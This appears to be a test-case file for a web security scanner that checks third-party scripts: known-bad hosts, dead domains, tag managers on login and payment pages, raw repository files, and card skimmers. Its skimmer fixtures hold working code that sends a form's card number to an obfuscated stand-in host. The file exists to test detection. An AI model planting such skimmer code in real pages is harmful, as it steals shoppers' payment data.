import type { CaseOf } from '../../lab-case';
import { page, script, type ScriptFiles, scriptListener } from '../../sites/script-site';
import { HARDENED, pages, setHeaders } from '../../sites/pages';

/** Services that exist, and what lies below them. */
const ZONES = `shop.test SOA
shop.test A 127.0.0.1
living.com SOA
living.com A 127.0.0.1
cdn.living.com A 127.0.0.1
tags.living.com A 127.0.0.1
github.io SOA
githubusercontent.com SOA
raw.githubusercontent.com A 127.0.0.1
googletagmanager.com SOA
www.googletagmanager.com A 127.0.0.1
google.com SOA
www.google.com A 127.0.0.1
stripe.com SOA
js.stripe.com A 127.0.0.1
ngrok-free.app SOA
ngrok-free.app A 127.0.0.1
shop.ngrok-free.app A 127.0.0.1
gitlab.com A 127.0.0.1
jsdelivr.net SOA
cdn.jsdelivr.net A 127.0.0.1
polyfill.io SOA
polyfill.io A 127.0.0.1
cdn.polyfill.io A 127.0.0.1`;
const HASH = `integrity="sha384-${'A'.repeat(64)}" crossorigin="anonymous"`;
const TAGS = script('https://www.googletagmanager.com/gtm.js?id=GTM-1');
const LOGIN =
  '<form method="post" action="/login"><input name="user"><input type="password" name="password"></form>';
export const CARD =
  '<form method="post" action="/pay"><input name="cardNumber" autocomplete="cc-number"></form>';

interface Rest extends Partial<CaseOf> {
  dns?: string;
}

/** Pages and scripts of the shop; hardened, so that other tests have nothing to say. */
const site = (
  name: string,
  files: ScriptFiles,
  expected: CaseOf['expected'],
  { dns = '', ...rest }: Rest = {},
): CaseOf => ({
  name: `scripts of others: ${name}`,
  site: async (ground) => {
    await ground.dns(`${ZONES}\n${dns}`);
    const listener = scriptListener(files);
    await ground.site((request, response) => {
      setHeaders(response, { ...HARDENED, 'content-security-policy': null });
      listener(request, response);
    });
  },
  expected,
  ...rest,
});
export const start = (name: string, tags: string, expected: CaseOf['expected'], rest: Rest = {}): CaseOf =>
  site(name, { '/': page(tags) }, expected, rest);

const BAD = ['thirdparty-known-bad-host critical'];
const listOf = (name: string) => ({
  bad_script_hosts: JSON.stringify({
    data: 'bad_script_hosts',
    date: new Date().toISOString().slice(0, 10),
    source: 'lab',
    hosts: [{ name, reason: 'it steals cards', source: 'https://lab.example/report', since: '2026-01' }],
  }),
});

/** The reports named in the list. */
const BAD_CASES: CaseOf[] = [
  start('a known bad host', script('https://cdn.polyfill.io/v3/polyfill.min.js'), BAD),
  start('a known bad host without scheme', script('//polyfill.io/v3/polyfill.js'), BAD),
  start(
    'a known bad host below a base',
    `<base href="https://cdn.polyfill.io/v2/">${script('polyfill.js')}`,
    BAD,
  ),
  site(
    'a known bad host on two pages',
    {
      '/': page('<a href="/a">A</a>', script('https://cdn.polyfill.io/v3/polyfill.min.js')),
      '/a': page(script('https://cdn.polyfill.io/v3/polyfill.min.js')),
    },
    BAD,
    { guards: 'one host is one finding' },
  ),
  site(
    'a known bad host in a call of an own script',
    {
      '/': page(script('/app.js')),
      '/app.js':
        'const s=document.createElement("script");s.src="https://cdn.polyfill.io/v3/polyfill.min.js";',
    },
    BAD,
  ),
  start(
    'a known bad host in a call of a program',
    `<script>var s=document.createElement('script');s.src='//cdn.polyfill.io/v3/polyfill.min.js';document.head.append(s)</script>`,
    BAD,
  ),
  start(
    'a known bad host in an import map',
    `<script type="importmap">{"imports":{"p":"https://cdn.polyfill.io/v3/p.js"}}</script>`,
    BAD,
  ),
  start(
    'a known bad host in a comment of a script',
    `<script>\n// s.src = "https://cdn.polyfill.io/v3/polyfill.min.js"\nrun()</script>`,
    [],
    { guards: 'browsers do not run comments' },
  ),
  start(
    'a known bad host in a comment, a link and a text',
    '<!-- <script src="https://cdn.polyfill.io/v3/p.js"></script> --><a href="https://polyfill.io/">polyfill.io</a><noscript><script src="https://cdn.polyfill.io/p.js"></script></noscript>',
    [],
    { guards: 'only what loads a script counts' },
  ),
  start(
    'a known bad host in a block of data',
    '<script type="application/json">{"s":{"src":"https://cdn.polyfill.io/p.js"}}</script><template><script src="https://cdn.polyfill.io/p.js"></script></template>',
    [],
    { guards: 'data runs nothing' },
  ),
  start('a name that only ends like a bad one', script('https://notpolyfill.io/p.js'), [], {
    dns: 'notpolyfill.io SOA\nnotpolyfill.io A 127.0.0.1',
    guards: 'whole labels',
  }),
  start('a bad host of the operator', script('https://tags.living.com/t.js'), BAD, {
    data: listOf('tags.living.com'),
  }),
  start('a bad host of the release, and a list of the operator', script('https://cdn.polyfill.io/p.js'), [], {
    data: listOf('tags.living.com'),
    guards: 'the list of the operator replaces the one of the release',
  }),
  site(
    'a known bad host at the first visit alone',
    {
      '/': (visit) => ({
        body: page(visit === 1 ? script('https://cdn.polyfill.io/v3/polyfill.min.js') : ''),
      }),
    },
    ['thirdparty-known-bad-host medium'],
    { isShownOnce: true, guards: 'critical needs two responses' },
  ),
  start('a known bad host that does not exist', script('https://x.polyfill.io/p.js'), BAD, {
    guards: 'one cause is one finding',
  }),
  start(
    'a known bad host on a login page',
    `${LOGIN}${script('https://cdn.polyfill.io/v3/polyfill.min.js')}`,
    BAD,
    { guards: 'one cause is one finding' },
  ),
];

/** RFC 8020: what NXDOMAIN means; the public suffix list: what can be registered. */
const DEAD_CASES: CaseOf[] = [
  start('a host that exists', script('https://cdn.living.com/widget.js'), []),
  start('a domain that does not exist', script('https://cdn.gone-brand.com/widget.js'), [
    'thirdparty-dead-host high',
  ]),
  start(
    'a domain below a suffix of two labels that does not exist',
    script('https://cdn.gone-brand.co.uk/w.js'),
    ['thirdparty-dead-host high'],
    { dns: 'uk SOA\nco.uk SOA' },
  ),
  start('a name that does not exist in a domain that does', script('https://old.living.com/widget.js'), [
    'thirdparty-dead-host low',
  ]),
  start(
    'a name whose CNAME ends in a free domain',
    script('https://w.living.com/widget.js'),
    ['thirdparty-dead-host high'],
    {
      dns: 'w.living.com CNAME w.gone-brand.net',
    },
  ),
  start(
    'a name whose CNAME ends in nothing',
    script('https://w.living.com/widget.js'),
    ['thirdparty-dead-host low'],
    {
      dns: 'w.living.com CNAME old.living.com',
    },
  ),
  start(
    'an unclaimed name of a hoster',
    script('https://gone-brand.github.io/widget.js'),
    ['thirdparty-dead-host low'],
    { guards: 'nobody can register a domain there' },
  ),
  start(
    'a free domain, with a hash',
    script('https://cdn.gone-brand.com/widget.js', HASH),
    ['thirdparty-dead-host low'],
    { guards: 'browsers refuse another file' },
  ),
  start(
    'a free domain, with a hash at one of two elements',
    script('https://cdn.gone-brand.com/widget.js', HASH) + script('https://cdn.gone-brand.com/more.js'),
    ['thirdparty-dead-host high'],
  ),
  start(
    'a free domain, with a hash at one of two elements of one file',
    script('https://cdn.gone-brand.com/widget.js', HASH) + script('https://cdn.gone-brand.com/widget.js'),
    ['thirdparty-dead-host high'],
  ),
  start('a free domain in a call', `<script>import("https://cdn.gone-brand.com/w.js").then(run)</script>`, [
    'thirdparty-dead-host high',
  ]),
  start(
    'an image of a free domain',
    `<script>new Image().src="https://px.gone-brand.com/p.gif"</script><img src="https://px.gone-brand.com/p.gif">`,
    [],
    {
      guards: 'images run nothing',
    },
  ),
  start('a host without an address', script('https://mail.living.com/w.js'), [], {
    dns: 'mail.living.com TXT x',
    guards: 'the name exists',
  }),
  start('a name that only IPv6 has', script('https://six.living.com/w.js'), [], {
    dns: 'six.living.com AAAA ::1',
    guards: 'the name exists',
  }),
  start(
    'names that DNS never has',
    [
      'cdn.brand.test',
      'cdn.brand.example',
      'cdn.brand.invalid',
      'cdn.brand.local',
      'abcdef.onion',
      'cdn',
      '10.1.2.3',
    ]
      .map((host) => script(`https://${host}/w.js`))
      .join(''),
    [],
    { guards: 'nobody can register them' },
  ),
  start('a sister of the own host that does not exist', script('https://static.shop.test/w.js'), [], {
    guards: 'own names belong to subdomain_takeover',
  }),
  start('http on a page of https', script('http://cdn.gone-brand.com/w.js'), [], {
    guards: 'browsers block it; mixed_content says so',
  }),
  site(
    'http on a page of https that upgrades',
    {
      '/': `<!doctype html><head><meta http-equiv="content-security-policy" content="upgrade-insecure-requests"></head>${script('http://cdn.gone-brand.com/w.js')}`,
    },
    ['thirdparty-dead-host high'],
    { guards: 'then browsers load it over https' },
  ),
  start('DNS that fails', script('https://cdn.gone-brand.com/w.js'), 'inconclusive', {
    dns: 'cdn.gone-brand.com A !servfail',
    guards: 'an error is not a missing name',
  }),
  start('a domain that DNS cannot say', script('https://cdn.gone-brand.com/w.js'), 'inconclusive', {
    dns: 'gone-brand.com NS !servfail',
    guards: 'an error is not a missing domain',
  }),
  start('a filter that denies a name', script('https://ads.living.com/w.js'), 'inconclusive', {
    dns: 'ads.living.com A !nxdomain',
    guards: 'no zone above says it',
  }),
  start(
    'DNS that fails for one host, and a bad one',
    script('https://cdn.gone-brand.com/w.js') + script('https://polyfill.io/p.js'),
    BAD,
    { dns: 'cdn.gone-brand.com A !servfail' },
  ),
  start(
    'forty hosts',
    Array.from({ length: 40 }, (_, place) => script(`https://h${place}.living.com/w.js`)).join(''),
    [],
    { dns: '*.living.com A 127.0.0.1', guards: 'questions have a limit, and the message says so' },
  ),
];

/** PCI DSS 4, requirement 6.4.3. */
const SENSITIVE = ['thirdparty-on-sensitive-page low'];
const FIELD_CASES: CaseOf[] = [
  start('a tag manager on a login page', `${LOGIN}${TAGS}`, SENSITIVE),
  start('a tag manager on a payment page', `${CARD}${TAGS}`, SENSITIVE),
  start('a tag manager on another page', TAGS, [], { guards: 'no password, no card' }),
  site(
    'a tag manager on two login pages',
    { '/': page('<a href="/b">B</a>', LOGIN, TAGS), '/b': page(LOGIN, TAGS) },
    SENSITIVE,
    { guards: 'one host is one finding' },
  ),
  site(
    'a tag manager on the start page, and a login elsewhere',
    { '/': page('<a href="/b">B</a>', TAGS), '/b': page(LOGIN) },
    [],
    { guards: 'it does not run where the password is' },
  ),
  start(
    'the snippet of a tag manager on a login page',
    `${LOGIN}<script>(function(w,d,s,l,i){var j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;d.head.append(j)})(window,document,'script','dataLayer','GTM-1');</script>`,
    SENSITIVE,
  ),
  start('a CAPTCHA on a login page', `${LOGIN}${script('https://www.google.com/recaptcha/api.js')}`, [], {
    guards: 'the form needs it',
  }),
  start('the fields of a payment provider', `${CARD}${script('https://js.stripe.com/v3/')}`, [], {
    guards: 'the fields are its own',
  }),
  start(
    'a file with a version on a login page',
    `${LOGIN}${script('https://cdn.jsdelivr.net/npm/vue@3.4.1/dist/vue.js')}`,
    [],
    {
      guards: 'subresource_integrity is about it',
    },
  ),
  start(
    'a file with a hash on a login page',
    `${LOGIN}${script('https://cdn.living.com/widget.js', HASH)}`,
    [],
    {
      guards: 'its host cannot change it',
    },
  ),
  start(
    'an own script on a login page',
    `${LOGIN}${script('/missing.js')}${script('https://static.shop.test/w.js')}`,
    [],
    {
      guards: 'no third party',
    },
  ),
  start('a form for a gift card', `<form><input name="gift_card_number"></form>${TAGS}`, [], {
    guards: 'no payment card',
  }),
  start(
    'a host that does not exist on a login page',
    `${LOGIN}${script('https://cdn.gone-brand.com/w.js')}`,
    ['thirdparty-dead-host high'],
    { guards: 'one cause is one finding' },
  ),
];

const RAW = ['thirdparty-raw-repository low'];
const RAW_CASES: CaseOf[] = [
  start('a file of a repository', script('https://raw.githubusercontent.com/a/b/main/x.js'), RAW),
  start('a file of a repository at GitLab', script('https://gitlab.com/a/b/-/raw/main/x.js'), RAW),
  start('a tunnel', script('https://shop.ngrok-free.app/x.js'), RAW),
  start('a page of a code host', script('https://gitlab.com/assets/webpack/main.js'), [], {
    guards: 'only files of repositories',
  }),
  start(
    'a file of a repository, with a hash',
    script('https://raw.githubusercontent.com/a/b/main/x.js', HASH),
    [],
    {
      guards: 'nobody can change it',
    },
  ),
  start(
    'a file of a repository on a login page',
    `${LOGIN}${script('https://raw.githubusercontent.com/a/b/main/x.js')}`,
    RAW,
    {
      guards: 'one cause is one finding',
    },
  ),
];

const TARGET = Buffer.from('https://cdn-metrics.example.org/c').toString('base64');
const SKIMMER = `document.forms[0].onsubmit=function(){fetch(atob('${TARGET}'),{method:'POST',body:document.forms[0].cardNumber.value})};`;
const ESCAPED = SKIMMER.replace(
  /atob\('.*?'\)/,
  () => String.raw`'\x68\x74\x74\x70\x73\x3a//cdn-metrics.example.org/c'`,
);
const SKIMMED = ['thirdparty-skimmer high'];
const SKIMMER_CASES: CaseOf[] = [
  start('a skimmer in a page', `${CARD}<script>${SKIMMER}</script>`, SKIMMED),
  start('a skimmer with an address in escapes', `${CARD}<script>${ESCAPED}</script>`, SKIMMED),
  start('a skimmer in a handler', `${CARD}<img src="x" onerror="${SKIMMER}">`, SKIMMED),
  site(
    'a skimmer in an own script',
    { '/': page(`${CARD}${script('/app.js')}`), '/app.js': SKIMMER },
    SKIMMED,
  ),
  start(
    'a form that a program sends to a shown address',
    `${CARD}<script>${SKIMMER.replace(/atob\('.*?'\)/, "'https://pay.example.org/'")}</script>`,
    [],
    {
      guards: 'an address that everyone can read',
    },
  ),
  start(
    'a picture in Base64',
    `${CARD}<script>${SKIMMER.replace(/atob\('.*?'\)/, "'/pay', { icon: 'aGVsbG8gd29ybGQhISE=' }")}</script>`,
    [],
    {
      guards: 'Base64 that is not an address',
    },
  ),
  start(
    'a template with an escaped address',
    `${CARD}<script>var url = "https:\\u002F\\u002Fapi.living.com\\u002Fv1?a=1\\u0026b=2"; fetch(url, { body: document.forms[0].cardNumber.value });</script>`,
    [],
    {
      guards: 'JSON escapes signs',
    },
  ),
];

export const THIRD_PARTY_CASES: CaseOf[] = [
  start('none', '<p>Welcome</p>', []),
  {
    name: 'scripts of others: a site that is not there',
    site: () => undefined,
    expected: 'inconclusive',
  },
  {
    name: 'scripts of others: a page that refuses visitors',
    site: (ground) => ground.site(pages({ '/': { status: 403, body: page(TAGS) } })),
    expected: 'inconclusive',
  },
  site('no path but those of an API', { '/api/version': '{}' }, 'inconclusive', {
    guards: 'an error runs no scripts of the site (aptly)',
  }),
  ...BAD_CASES,
  ...DEAD_CASES,
  ...FIELD_CASES,
  ...RAW_CASES,
  ...SKIMMER_CASES,
];
